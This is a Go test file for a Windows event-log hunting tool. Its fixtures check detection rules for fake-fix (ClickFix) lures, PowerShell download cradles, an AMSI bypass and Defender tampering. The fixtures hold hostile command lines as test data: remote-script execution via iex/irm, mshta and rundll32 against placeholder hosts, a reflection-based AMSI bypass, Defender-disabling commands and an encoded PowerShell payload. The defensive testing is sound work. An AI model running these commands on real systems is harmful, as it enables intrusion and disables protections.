package hunt

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/wuguard/wuguard/evtx"
	"github.com/wuguard/wuguard/internal/event"
	"github.com/wuguard/wuguard/internal/eventgen"
	"github.com/wuguard/wuguard/internal/input"
)

// The built-in rules, by id.
const (
	ruleRunDialogCommand    = "1a85ef9b-617a-498e-88e3-ba5cbc26a5a4"
	ruleRunDialogLure       = "3705d450-63e3-4d05-8531-dff84ad2d357"
	ruleExplorerPowerShell  = "43a71dd3-1d05-4b81-a1c8-d01a5c576754"
	ruleExplorerLOLBin      = "c6166564-6a4f-4237-92f6-b2c3b6d9914c"
	ruleRunMRUClearedCmd    = "1551f3b6-51eb-45bc-b708-5b6d56afd258"
	ruleRunMRUDeleted       = "d3092cbe-e030-4ad9-a1b9-f532b52b61b6"
	rulePoshCradle          = "52a82e97-a252-4730-b0bf-f5d8ed022e4d"
	rulePoshAMSIBypass      = "ccce5e13-96b5-4fa5-bb8b-583894b4c4d8"
	rulePoshDefender        = "63b4b47d-2904-4d66-acdc-2bdc85ca7552"
	rulePoshClassic         = "886af234-be1c-4aa4-b2b1-bf46f2911a70"
	ruleDefenderRealTimeOff = "5abb219b-f556-4ea8-afc8-0b6d73e91459"
	ruleDefenderExclusion   = "2902d3ca-c119-414c-a3b7-ff9848a56f34"
	ruleDefenderAMSI        = "f7194250-c4fd-47cc-8723-ccdaca0649c1"
	ruleDefenderTamper      = "9895fac8-d4ef-43a4-a127-8a15e315aa94"
	ruleUpdateFailed        = "3764ada0-85a7-4ac4-a449-ffbf2fd6341f"
	ruleFakeFixIndicator    = "863e3b15-3dec-415a-8194-bbdd009f9f0a"
	ruleFakeFixAfterUpdate  = "f983ca9e-9703-45a6-837b-f07dea616069"
)

// indicatorRules are the detection rules that are findings of their own and
// that the update-error correlation joins.
var indicatorRules = []string{
	ruleRunDialogCommand, ruleRunDialogLure, ruleExplorerPowerShell, ruleExplorerLOLBin,
	ruleRunMRUClearedCmd, ruleRunMRUDeleted, rulePoshCradle, rulePoshAMSIBypass, rulePoshDefender,
	rulePoshClassic, ruleDefenderRealTimeOff, ruleDefenderExclusion, ruleDefenderAMSI, ruleDefenderTamper,
}

func loadBuiltin(t *testing.T) *Rules {
	t.Helper()
	rules, err := LoadRules(nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(rules.Rejected) > 0 {
		t.Fatalf("built-in rules rejected: %v", rules.Rejected)
	}
	return rules
}

// TestBuiltinRulesLoad checks that every built-in rule loads, that the set
// is the documented one, and which rules are findings of their own.
func TestBuiltinRulesLoad(t *testing.T) {
	rules := loadBuiltin(t)
	if !rules.Builtin {
		t.Error("rules not marked built-in")
	}
	emit := map[string]bool{}
	for _, r := range rules.Set.Rules() {
		emit[r.ID] = r.Emit
		if !strings.HasPrefix(r.File, "builtin:") {
			t.Errorf("%s: file %q", r.ID, r.File)
		}
	}
	want := map[string]bool{ruleUpdateFailed: false, ruleFakeFixIndicator: false, ruleFakeFixAfterUpdate: true}
	for _, id := range indicatorRules {
		want[id] = true
	}
	if len(emit) != len(want) {
		t.Errorf("%d rules loaded, want %d", len(emit), len(want))
	}
	for id, w := range want {
		if got, ok := emit[id]; !ok || got != w {
			t.Errorf("rule %s: loaded %v, finding of its own %v; want loaded, %v", id, ok, got, w)
		}
	}
}

// builtinRuleFile is the part of a rule file the conventions test reads.
type builtinRuleFile struct {
	Title          string         `yaml:"title"`
	ID             string         `yaml:"id"`
	Name           string         `yaml:"name"`
	Status         string         `yaml:"status"`
	Description    string         `yaml:"description"`
	References     []string       `yaml:"references"`
	Author         string         `yaml:"author"`
	Date           string         `yaml:"date"`
	Tags           []string       `yaml:"tags"`
	Logsource      map[string]any `yaml:"logsource"`
	Detection      map[string]any `yaml:"detection"`
	Correlation    map[string]any `yaml:"correlation"`
	Falsepositives []string       `yaml:"falsepositives"`
	Level          string         `yaml:"level"`
}

// TestBuiltinRuleConventions holds every built-in rule to the SigmaHQ
// conventions the project follows, and checks that the indicator
// correlation gathers every indicator rule.
func TestBuiltinRuleConventions(t *testing.T) {
	var docs []builtinRuleFile
	err := fs.WalkDir(builtin, "rules", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(path, ".yml") {
			return err
		}
		data, err := builtin.ReadFile(path)
		if err != nil {
			return err
		}
		dec := yaml.NewDecoder(strings.NewReader(string(data)))
		for {
			var doc builtinRuleFile
			if err := dec.Decode(&doc); err != nil {
				break
			}
			docs = append(docs, doc)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]string{}
	var gathered []string
	for _, d := range docs {
		if d.Author != "wuguard" || d.Status != "experimental" || d.Date != "2026-11-23" || d.Title == "" ||
			d.Description == "" || d.Level == "" || d.Name == "" {
			t.Errorf("%s (%s): missing or unexpected metadata", d.ID, d.Title)
		}
		if d.Detection != nil && (len(d.References) == 0 || len(d.Falsepositives) == 0 || d.Logsource["product"] != "windows") {
			t.Errorf("%s: a detection rule needs references, falsepositives and a windows logsource", d.ID)
		}
		if d.ID != ruleUpdateFailed && !slices.ContainsFunc(d.Tags, func(tag string) bool { return strings.HasPrefix(tag, "attack.t") }) {
			t.Errorf("%s: no ATT&CK technique tag in %v", d.ID, d.Tags)
		}
		names[d.Name] = d.ID
		if d.ID == ruleFakeFixIndicator {
			for _, r := range d.Correlation["rules"].([]any) {
				gathered = append(gathered, r.(string))
			}
		}
	}
	var gatheredIDs []string
	for _, n := range gathered {
		gatheredIDs = append(gatheredIDs, names[n])
	}
	sort.Strings(gatheredIDs)
	want := slices.Clone(indicatorRules)
	sort.Strings(want)
	if !slices.Equal(gatheredIDs, want) {
		t.Errorf("the indicator correlation gathers %v, want every indicator rule %v", gatheredIDs, want)
	}
}

// Fixture users and times.
var (
	bob   = eventgen.User{Domain: "CORP", Name: "bob", SID: "S-1-5-21-3461203602-4096304019-2269080069-1104", LogonID: "0x5a3c1"}
	day   = time.Date(2025, 4, 9, 8, 0, 0, 0, time.UTC)
	at    = func(h, m int) time.Time { return day.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute) }
	b64ps = "JABjAD0AJwBoAHQAJwArACcAdABwACcAOwAoAC4AJwBcAFcAKgBcACoAMwAyAFwAYwA/AD8AbAAuAGUAKgAnACAAIgAkAHsAYwB9ADoALwAvADkAMQAuADIAMQAyAC4AMQA2ADYALgAyADAANAAvADgANwA2ADUANAAzADIAMwAuAHQAeAB0ACIAKQB8AGkAZQB4AA=="
)

func newHost(name string) *eventgen.Host { return eventgen.NewHost(name, 19045, 5737) }

// huntHosts writes the hosts' logs as EVTX files, one per computer and
// channel as Windows keeps them, and hunts the folder with rules through the
// same reader wuguard hunt uses.
func huntHosts(t *testing.T, rules *Rules, hosts ...*eventgen.Host) *Report {
	t.Helper()
	dir := t.TempDir()
	for _, h := range hosts {
		for name, events := range h.Files() {
			path := filepath.Join(dir, h.Computer, name)
			if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
				t.Fatal(err)
			}
			w, err := evtx.Create(path)
			if err != nil {
				t.Fatal(err)
			}
			for i := range events {
				if err := w.Write(&events[i]); err != nil {
					t.Fatalf("%s: %v", path, err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
		}
	}
	rep, err := Run(context.Background(), rules, []string{dir}, Options{Threads: 2}, func(d input.Damage) {
		t.Errorf("damaged input: %+v", d)
	})
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// huntInMemory hunts the hosts' events without writing them to files, for
// script blocks larger than the 64 KiB chunk an EVTX record must fit in.
func huntInMemory(t *testing.T, rules *Rules, hosts ...*eventgen.Host) *Report {
	t.Helper()
	dir := t.TempDir()
	files := map[string][]*event.Event{}
	var paths []string
	for _, h := range hosts {
		for _, e := range h.ModelEvents(dir) {
			if _, ok := files[e.Source.File]; !ok {
				if err := os.MkdirAll(filepath.Dir(e.Source.File), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(e.Source.File, nil, 0o644); err != nil {
					t.Fatal(err)
				}
				paths = append(paths, e.Source.File)
			}
			files[e.Source.File] = append(files[e.Source.File], &e)
		}
	}
	read := func(_ context.Context, f input.File, fn input.Handler, _ func(input.Damage)) error {
		for _, e := range files[f.Path] {
			if err := fn(e); err != nil {
				return err
			}
		}
		return nil
	}
	rep, err := Run(context.Background(), rules, paths, Options{Threads: 2, read: read}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func firedRules(rep *Report) []string {
	ids := []string{}
	for _, f := range rep.Findings {
		ids = append(ids, f.Rule.ID)
	}
	sort.Strings(ids)
	return ids
}

// ruleFixture is an event sequence and the rule ids (with repeats) that
// must fire on it, no more and no fewer. A fixture that wants no rule is a
// near miss: activity that resembles what the rule looks for.
type ruleFixture struct {
	// rule is the rule the fixture is a positive case or a near miss for.
	rule  string
	name  string
	build func() []*eventgen.Host
	want  []string
}

// oneHost builds a fixture of one computer from what bob does on it.
func oneHost(do func(h *eventgen.Host, s *eventgen.Session)) func() []*eventgen.Host {
	return func() []*eventgen.Host {
		h := newHost("PC-BOB")
		do(h, h.Session(bob))
		return []*eventgen.Host{h}
	}
}

const (
	runMRUKey = `Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU`
	padding   = "                                                                                "
)

var ruleFixtures = []ruleFixture{
	// Run dialog and address bar history.
	{ruleRunDialogCommand, "run dialog: hidden PowerShell downloading and running a script", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.RunDialog(at(1, 0), "a", `powershell -w h -nop -c "iex (irm https://cdn-verify.example/v.ps1)"`, "a")
	}), []string{ruleRunDialogCommand}},
	{ruleRunDialogCommand, "run dialog: Security 4657 instead of Sysmon, mshta with a URL", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.RunDialogAudited(at(1, 0), "b", `mshta https://check-human.example/captcha.hta`)
	}), []string{ruleRunDialogCommand}},
	{ruleRunDialogCommand, "run dialog: rundll32 loading a DLL from a WebDAV share", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.RunDialog(at(1, 0), "a", `rundll32 \\verify-human.example@SSL\DavWWWRoot\check.dll,Start`, "a")
	}), []string{ruleRunDialogCommand}},
	{ruleRunDialogCommand, "address bar: cmd piping finger output to cmd", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.AddressBar(at(1, 0), `cmd /c finger update@fix-errors.example | cmd`)
	}), []string{ruleRunDialogCommand}},
	{ruleRunDialogCommand, "run dialog: programs and paths users type", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.RunDialog(at(1, 0), "a", `notepad`, "a")
		s.RunDialog(at(1, 1), "b", `powershell.exe`, "ba")
		s.RunDialog(at(1, 2), "c", `cmd`, "cba")
		s.RunDialog(at(1, 3), "d", `powershell -NoExit -Command Set-Location C:\Scripts`, "dcba")
		s.RunDialog(at(1, 4), "e", `https://intranet.example/curling-club`, "edcba")
		s.RunDialog(at(1, 5), "f", `\\fileserver\certutil-docs`, "fedcba")
		s.RunDialog(at(1, 6), "g", `sigverif`, "gfedcba")
	}), nil},
	{ruleRunDialogLure, "run dialog: command behind a fake reCAPTCHA comment", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.RunDialog(at(1, 0), "a", `conhost --headless cmd /c start calc # ✅ I am not a robot - reCAPTCHA Verification ID: 4821`, "a")
	}), []string{ruleRunDialogLure}},
	{ruleRunDialogLure, "address bar: FileFix command padded to show a document path", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.AddressBar(at(1, 0), `PowerShell.exe -c ping fix-portal.example`+padding+`# C:\company\internal-secure\filedrive\HRPolicy.docx`)
	}), []string{ruleRunDialogLure}},
	{ruleRunDialogLure, "address bar and run dialog: lure words and # without a program", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.AddressBar(at(1, 0), `C:\HR\Human Resources\#verification`)
		s.RunDialog(at(1, 1), "a", `\\fileserver\robot#2`, "a")
	}), nil},

	// Processes Explorer starts.
	{ruleExplorerPowerShell, "explorer starts hidden encoded PowerShell", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.Start(at(1, 0), s.Explorer(), eventgen.ImagePowerShell, `"`+eventgen.ImagePowerShell+`" -nop -w hidden -enc `+b64ps)
	}), []string{ruleExplorerPowerShell}},
	{ruleExplorerPowerShell, "explorer starts downloading PowerShell, seen by Security 4688", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.StartAudited(at(1, 0), s.Explorer(), eventgen.ImagePowerShell, `powershell -c "iwr https://fix.example/l.bat -OutFile $env:TEMP\l.bat; & $env:TEMP\l.bat"`)
	}), []string{ruleExplorerPowerShell}},
	{ruleExplorerPowerShell, "explorer starts PowerShell the way users and Run with PowerShell do", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.Start(at(1, 0), s.Explorer(), eventgen.ImagePowerShell, `"`+eventgen.ImagePowerShell+`"`)
		s.Start(at(1, 1), s.Explorer(), eventgen.ImagePowerShell, `"`+eventgen.ImagePowerShell+`" "-Command" "if((Get-ExecutionPolicy ) -ne 'AllSigned') { Set-ExecutionPolicy -Scope Process Bypass }; & 'C:\Users\bob\Desktop\inventory.ps1'"`)
		cmd := s.Start(at(1, 2), s.Explorer(), eventgen.ImageCmd, `"`+eventgen.ImageCmd+`"`)
		s.Start(at(1, 3), cmd, eventgen.ImagePowerShell, `powershell -w hidden -c Get-Date`)
	}), nil},
	{ruleExplorerLOLBin, "explorer starts mshta with a URL and cmd with inline hidden PowerShell", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.Start(at(1, 0), s.Explorer(), eventgen.ImageMshta, `"`+eventgen.ImageMshta+`" https://check-human.example/verify.hta`)
		s.Start(at(1, 1), s.Explorer(), eventgen.ImageCmd, `cmd /c start /min powershell -w h -E `+b64ps)
	}), []string{ruleExplorerLOLBin, ruleExplorerLOLBin}},
	{ruleExplorerLOLBin, "explorer opens a local HTA and a batch file", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.Start(at(1, 0), s.Explorer(), eventgen.ImageMshta, `"C:\Windows\SysWOW64\mshta.exe" "C:\Users\bob\Desktop\menu.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`)
		s.Start(at(1, 1), s.Explorer(), eventgen.ImageCmd, `C:\Windows\system32\cmd.exe /c ""C:\Users\bob\Desktop\backup.bat" "`)
	}), nil},

	// Run dialog history clean-up.
	{ruleRunMRUClearedCmd, "reg.exe and PowerShell delete the Run dialog history", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		ps := s.Start(at(1, 0), s.Explorer(), eventgen.ImagePowerShell, `"`+eventgen.ImagePowerShell+`"`)
		s.Start(at(1, 1), ps, eventgen.ImageReg, `"C:\Windows\system32\reg.exe" delete HKCU\`+runMRUKey+` /f`)
		s.Start(at(1, 2), ps, eventgen.ImagePowerShell, `powershell -c "Remove-ItemProperty -Path 'HKCU:\`+runMRUKey+`' -Name *"`)
	}), []string{ruleRunMRUClearedCmd, ruleRunMRUClearedCmd}},
	{ruleRunMRUClearedCmd, "reg.exe reads the Run dialog history and deletes another key", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.Start(at(1, 0), s.Explorer(), eventgen.ImageCmd, `"`+eventgen.ImageCmd+`"`)
		s.StartAudited(at(1, 1), s.Explorer(), eventgen.ImageReg, `reg query HKCU\`+runMRUKey)
		s.StartAudited(at(1, 2), s.Explorer(), eventgen.ImageReg, `reg delete HKCU\Software\Contoso\RecentFiles /f`)
	}), nil},
	{ruleRunMRUDeleted, "PowerShell deletes a Run dialog history value", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.RegistryDelete(at(1, 0), eventgen.ImagePowerShell, "DeleteValue", runMRUKey+`\a`)
	}), []string{ruleRunMRUDeleted}},
	{ruleRunMRUDeleted, "Explorer deletes, and mmc creates, the Run dialog history key", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.RegistryDelete(at(1, 0), eventgen.ImageExplorer, "DeleteKey", runMRUKey)
		s.RegistryDelete(at(1, 1), `C:\Windows\system32\mmc.exe`, "CreateKey", runMRUKey)
	}), nil},

	// PowerShell logs.
	{rulePoshCradle, "script block: web content run with Invoke-Expression", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ScriptBlock(at(1, 0), `iex (iwr 'https://nicostudio.example/pZJHqter.txt' -UseBasicParsing).Content`, "7f6c1b2a-0d3e-4f5a-8b9c-1d2e3f4a5b6c", true)
	}), []string{rulePoshCradle}},
	{rulePoshCradle, "module log: Invoke-RestMethod in a session started to run a cradle", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ModulePipeline(at(1, 0), `powershell -w h -c "irm https://cdn-verify.example/v.ps1 | iex"`, "Invoke-RestMethod", "Uri", "https://cdn-verify.example/v.ps1")
	}), []string{rulePoshCradle}},
	{rulePoshCradle, "script block: a web request without running it, and Invoke-Expression without a download", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ScriptBlock(at(1, 0), "$status = Invoke-RestMethod https://api.contoso.example/status\n$status.version", "a1", false)
		s.ScriptBlock(at(1, 1), "$cmd = \"Get-Service -Name $name\"\nInvoke-Expression $cmd", "a2", false)
	}), nil},
	{rulePoshAMSIBypass, "script block: amsiInitFailed set through reflection", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ScriptBlock(at(1, 0), `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`, "b1", true)
	}), []string{rulePoshAMSIBypass}},
	{rulePoshAMSIBypass, "script block: AMSI status read", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ScriptBlock(at(1, 0), `Get-MpComputerStatus | Select-Object AMServiceEnabled, AntivirusEnabled; Write-Host 'AMSI is on'`, "b2", false)
	}), nil},
	{rulePoshDefender, "script block and module log: real-time monitoring off, exclusion added", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ScriptBlock(at(1, 0), "Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath $env:APPDATA", "c1", false)
		s.ModulePipeline(at(1, 1), "powershell.exe", "Add-MpPreference", "ExclusionPath", `C:\Users\Public`)
	}), []string{rulePoshDefender, rulePoshDefender}},
	{rulePoshDefender, "script block: Defender settings read, restored and an exclusion removed", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ScriptBlock(at(1, 0), "Get-MpPreference | Select-Object ExclusionPath\nSet-MpPreference -DisableRealtimeMonitoring $false\nRemove-MpPreference -ExclusionPath C:\\Temp\\build", "c2", false)
	}), nil},
	{rulePoshClassic, "classic log: a DownloadString cradle and a Defender exclusion", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		cradle := `iex (New-Object Net.WebClient).DownloadString('https://sitecariri.example/cloudflare.ps1')`
		s.ClassicPipeline(at(1, 0), `powershell -c "`+cradle+`"`, cradle, "New-Object", "TypeName", "Net.WebClient")
		s.ClassicPipeline(at(1, 1), "powershell.exe", "Add-MpPreference -ExclusionPath C:\\", "Add-MpPreference", "ExclusionPath", `C:\`)
	}), []string{rulePoshClassic, rulePoshClassic}},
	{rulePoshClassic, "classic log: everyday pipelines", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		s.ClassicPipeline(at(1, 0), "powershell.exe", "Get-Process | Sort-Object CPU", "Sort-Object", "Property", "CPU")
		s.ClassicPipeline(at(1, 1), "powershell.exe", "Invoke-WebRequest https://www.contoso.example -OutFile page.html", "Invoke-WebRequest", "Uri", "https://www.contoso.example")
	}), nil},

	// Defender.
	{ruleDefenderRealTimeOff, "Defender: real-time protection off", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderRealTimeProtection(at(1, 0), false)
	}), []string{ruleDefenderRealTimeOff}},
	{ruleDefenderRealTimeOff, "Defender: real-time protection on", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderRealTimeProtection(at(1, 0), true)
	}), nil},
	{ruleDefenderExclusion, "Defender: path exclusion added", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderConfigChanged(at(1, 0), "", `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public = 0x0`)
	}), []string{ruleDefenderExclusion}},
	{ruleDefenderExclusion, "Defender: scan setting changed and an exclusion removed", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderConfigChanged(at(1, 0), `HKLM\SOFTWARE\Microsoft\Windows Defender\Scan\AvgCPULoadFactor = 0x32`, `HKLM\SOFTWARE\Microsoft\Windows Defender\Scan\AvgCPULoadFactor = 0x14`)
		h.DefenderConfigChanged(at(1, 1), `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Processes\build.exe = 0x0`, "")
	}), nil},
	{ruleDefenderAMSI, "Defender: AMSI detection of a pasted command", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderDetected(at(1, 0), bob, eventgen.Detection{Threat: "Trojan:PowerShell/ClickFix.A", SourceID: "10", SourceName: "AMSI",
			Path: `amsi:_C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, Process: eventgen.ImagePowerShell})
	}), []string{ruleDefenderAMSI}},
	{ruleDefenderAMSI, "Defender: real-time detection of a downloaded file", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderDetected(at(1, 0), bob, eventgen.Detection{Threat: "Trojan:Win32/Lumma.A", SourceID: "3", SourceName: "%%818",
			Path: `file:_C:\Users\bob\Downloads\setup.exe`, Process: `C:\Program Files\Mozilla Firefox\firefox.exe`})
	}), nil},
	{ruleDefenderTamper, "Defender: Tamper Protection blocked a change", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderTamperBlocked(at(1, 0), `HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`, "0x1")
	}), []string{ruleDefenderTamper}},
	{ruleDefenderTamper, "Defender: a change to real-time protection that Defender allowed", oneHost(func(h *eventgen.Host, s *eventgen.Session) {
		h.DefenderConfigChanged(at(1, 0), `HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring = 0x1`, `HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring = 0x0`)
	}), nil},
}

// TestBuiltinRuleFixtures hunts each fixture with the built-in rules and
// expects exactly the listed rules to fire.
func TestBuiltinRuleFixtures(t *testing.T) {
	rules := loadBuiltin(t)
	for _, fx := range ruleFixtures {
		t.Run(fx.name, func(t *testing.T) {
			rep := huntHosts(t, rules, fx.build()...)
			want := slices.Clone(fx.want)
			if want == nil {
				want = []string{}
			}
			sort.Strings(want)
			if got := firedRules(rep); !slices.Equal(got, want) {
				t.Errorf("fired %v, want %v", got, want)
			}
		})
	}
	positive, nearMiss := map[string]bool{}, map[string]bool{}
	for _, fx := range ruleFixtures {
		if slices.Contains(fx.want, fx.rule) {
			positive[fx.rule] = true
		}
		if len(fx.want) == 0 {
			nearMiss[fx.rule] = true
		}
	}
	for _, id := range indicatorRules {
		if !positive[id] || !nearMiss[id] {
			t.Errorf("rule %s: positive fixture %v, near miss %v; want both", id, positive[id], nearMiss[id])
		}
	}
}

// updateFailure logs a failed cumulative update on h at t.
func updateFailure(h *eventgen.Host, t time.Time) {
	cu := h.Update("2025-04 Cumulative Update for Windows 10 Version 22H2 for x64-based Systems (KB5055518)",
		"5b9e3c2a-7d41-4e8f-a3b6-0c9d8e7f6a51", 1, "KB5055518")
	cu.InstallStarted(t.Add(-10 * time.Minute))
	cu.Failed(t, 0x80070643, 0)
}

// clickFix logs a pasted fake fix on h at t: the Run dialog entry and the
// PowerShell Explorer starts.
func clickFix(h *eventgen.Host, t time.Time) {
	s := h.Session(bob)
	command := `powershell -w h -nop -c "iex (irm https://fix-update-error.example/0x80070643.ps1)"`
	s.RunDialog(t, "a", command, "a")
	s.Start(t.Add(time.Second), s.Explorer(), eventgen.ImagePowerShell, command)
}

func TestFakeFixAfterUpdateError(t *testing.T) {
	rules := loadBuiltin(t)
	t.Run("indicators 3 hours after the error", func(t *testing.T) {
		h := newHost("PC-BOB")
		updateFailure(h, at(0, 0))
		clickFix(h, at(3, 0))
		rep := huntHosts(t, rules, h)
		want := []string{ruleExplorerPowerShell, ruleRunDialogCommand, ruleFakeFixAfterUpdate}
		sort.Strings(want)
		if got := firedRules(rep); !slices.Equal(got, want) {
			t.Fatalf("fired %v, want %v", got, want)
		}
		var corr *Finding
		for i := range rep.Findings {
			if rep.Findings[i].Rule.ID == ruleFakeFixAfterUpdate {
				corr = &rep.Findings[i]
			}
		}
		if corr.Rule.Title != "Possible Fake Fix After an Update Error" || corr.Level != LevelHigh || corr.Computer != "PC-BOB" {
			t.Errorf("correlation %q level %v computer %q", corr.Rule.Title, corr.Level, corr.Computer)
		}
		// The finding names the update error and the first indicator after it.
		if corr.EventCount != 2 || len(corr.Events) != 2 {
			t.Fatalf("correlation joined %d events %+v, want 2", corr.EventCount, corr.Events)
		}
		first, second := corr.Events[0], corr.Events[1]
		if first.Channel != "System" || first.EventID != 20 || first.RuleID != ruleUpdateFailed || !first.Time.Equal(at(0, 0).Add(2*time.Second)) {
			t.Errorf("first joined event %+v, want the System 20 update failure", first)
		}
		if second.Channel != eventgen.ChannelSysmon || second.EventID != 13 || second.RuleID != ruleRunDialogCommand || !second.Time.Equal(at(3, 0)) {
			t.Errorf("second joined event %+v, want the Sysmon 13 RunMRU write", second)
		}
		if len(corr.Fields) != 1 || corr.Fields[0].Name != "Computer" || corr.Fields[0].Value != "PC-BOB" {
			t.Errorf("correlation fields %+v, want Computer=PC-BOB", corr.Fields)
		}
	})
	t.Run("indicators 25 hours after the error", func(t *testing.T) {
		h := newHost("PC-BOB")
		updateFailure(h, at(0, 0))
		clickFix(h, at(25, 0))
		want := []string{ruleExplorerPowerShell, ruleRunDialogCommand}
		sort.Strings(want)
		if got := firedRules(huntHosts(t, rules, h)); !slices.Equal(got, want) {
			t.Errorf("fired %v, want %v", got, want)
		}
	})
	t.Run("indicators on another computer", func(t *testing.T) {
		failing, other := newHost("PC-BOB"), newHost("PC-ALICE")
		updateFailure(failing, at(0, 0))
		clickFix(other, at(1, 0))
		want := []string{ruleExplorerPowerShell, ruleRunDialogCommand}
		sort.Strings(want)
		if got := firedRules(huntHosts(t, rules, failing, other)); !slices.Equal(got, want) {
			t.Errorf("fired %v, want %v", got, want)
		}
	})
	t.Run("indicators before the error", func(t *testing.T) {
		h := newHost("PC-BOB")
		clickFix(h, at(0, 0))
		updateFailure(h, at(1, 0))
		want := []string{ruleExplorerPowerShell, ruleRunDialogCommand}
		sort.Strings(want)
		if got := firedRules(huntHosts(t, rules, h)); !slices.Equal(got, want) {
			t.Errorf("fired %v, want %v", got, want)
		}
	})
	t.Run("an update error alone", func(t *testing.T) {
		h := newHost("PC-BOB")
		updateFailure(h, at(0, 0))
		if got := firedRules(huntHosts(t, rules, h)); len(got) != 0 {
			t.Errorf("fired %v, want nothing", got)
		}
	})
}
